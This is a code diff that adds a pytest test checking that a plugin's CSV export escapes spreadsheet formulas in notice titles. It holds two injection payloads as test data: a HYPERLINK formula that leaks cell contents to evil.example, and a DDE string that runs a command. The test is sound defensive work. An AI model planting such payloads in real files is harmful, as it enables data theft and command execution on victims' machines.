@@ -205,6 +205,19 @@ async def test_operators_and_auditors_export_csv(kit: PluginKit, role: Role) -> 
     assert datetime.fromisoformat(rows[1][2]) == datetime(2026, 1, 1, tzinfo=UTC)
 
 
+async def test_an_exported_title_that_is_a_formula_is_shown_as_text(kit: PluginKit) -> None:
+    leader = kit.add_member("Wang", Role.LEADER)
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the new rota")'
+    await post(kit, leader, formula)
+    await post(kit, leader, "-2+3+cmd|' /C calc'!A0")
+    document = await kit.call("export-notices", as_=kit.add_member("Reader", Role.OPERATOR))
+    assert isinstance(document, Document)
+    rows = list(csv.reader(io.StringIO(document.content.decode("utf-8-sig"))))
+    # A leading quote makes a spreadsheet show the cell as text instead of running it.
+    assert sorted(row[1] for row in rows[1:]) == sorted(["'" + formula, "'-2+3+cmd|' /C calc'!A0"])
+    assert all(row[0].isdigit() for row in rows[1:])  # ids stay plain numbers
+
+
 @pytest.mark.parametrize("roles", [(Role.LEADER,), (Role.RESIDENT,), ()])
 async def test_others_cannot_export(kit: PluginKit, roles: tuple[Role, ...]) -> None:
     with pytest.raises(Forbidden):
